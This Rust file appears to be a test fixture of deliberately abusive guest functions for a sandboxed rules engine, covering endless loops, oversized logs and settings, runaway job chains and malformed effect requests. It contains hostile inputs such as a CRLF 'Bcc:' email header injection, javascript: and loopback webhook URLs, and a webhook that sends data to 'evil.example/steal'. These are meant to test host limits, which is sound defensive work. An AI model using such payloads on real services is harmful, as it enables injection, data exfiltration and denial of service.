//! Too much of everything that the host offers.

use ironrule_rules::bindings::ironrule::rules::effects as raw;
use ironrule_rules::prelude::*;
use serde_json::{Value, json};

/// Far more than any limit, and still an end that a test can wait for.
const MANY: usize = 100_000;

pub fn host(event: &Event) -> Answer {
    loop {
        records::get::<Value>("notes", event.id())?;
    }
}

/// Swallows every failure: the host has to end this.
pub fn read_forever() -> ! {
    loop {
        let _ = records::get::<Value>("notes", "n1");
    }
}

pub fn log() -> Answer {
    for line in 0..2_000 {
        log!("line {line} {}", "x".repeat(500));
    }
    accept()
}

pub fn giant_log() -> Answer {
    log!("{}", "é".repeat(200_000));
    accept()
}

/// Gives up at the first failure.
pub fn effects() -> Answer {
    for number in 0..MANY {
        effects::job("later", json!({ "number": number })).enqueue()?;
    }
    accept()
}

/// Does not.
pub fn effects_forever() -> ! {
    loop {
        let _ = effects::job("later", json!({})).enqueue();
    }
}

pub fn giant_effect() -> Answer {
    effects::job("later", json!({ "text": "x".repeat(200_000) })).enqueue()?;
    accept()
}

/// One mistake after another, each of which must be a failure and not an end. The codes are in the log.
pub fn garbage_effect() -> Answer {
    let garbage = [
        ("", "{}", "{}"),
        ("sms", "{}", "{}"),
        ("job", "", "{}"),
        ("job", "[]", "{}"),
        ("job", r#"{"rule":"no-such-rule"}"#, "{}"),
        ("job", r#"{"rule":"later"}"#, "null"),
        ("job", r#"{"rule":"later"}"#, r#"{"delay_ms":-1}"#),
        ("job", r#"{"rule":"later"}"#, r#"{"delay_ms":1e300}"#),
        ("webhook", r#"{"url":"javascript:alert(1)"}"#, "{}"),
        ("webhook", r#"{"url":"https://127.0.0.1/"}"#, "{}"),
        ("webhook", r#"{"url":"https://a@b:c@d/"}"#, "{}"),
        ("email", r#"{"to":["a@b.c\r\nBcc: d@e.f"],"subject":"s","text":"t"}"#, "{}"),
    ];
    for (kind, payload, options) in garbage {
        match raw::enqueue(kind, payload, options) {
            Ok(_) => return Err(Rejection::internal(format!("`{kind}` with {payload} and {options} was taken"))),
            Err(failure) => log!("{}", failure.code),
        }
    }
    accept()
}

pub fn effect_not_granted() -> Answer {
    effects::webhook("https://evil.example/steal").body(json!({ "data": "all of it" })).enqueue()?;
    accept()
}

/// A job that starts itself again, twice: without a limit they would double for ever.
pub fn effect_chain() -> Answer {
    for _ in 0..2 {
        effects::job("later", json!({ "behaviour": "effect-chain" })).enqueue()?;
    }
    accept()
}

pub fn settings() -> Answer {
    for number in 0..MANY {
        host::setting(&format!("setting-{number}"));
    }
    accept()
}

pub fn settings_forever() -> ! {
    loop {
        host::setting("known");
    }
}

pub fn giant_setting() -> Answer {
    let name = "x".repeat(3_000_000);
    let found = host::setting(&name).is_some();
    patch(json!({ "found": found }))
}

pub fn random() -> Answer {
    let mut bytes = 0;
    for _ in 0..MANY {
        bytes += host::random(u32::MAX).len();
    }
    patch(json!({ "count": bytes }))
}
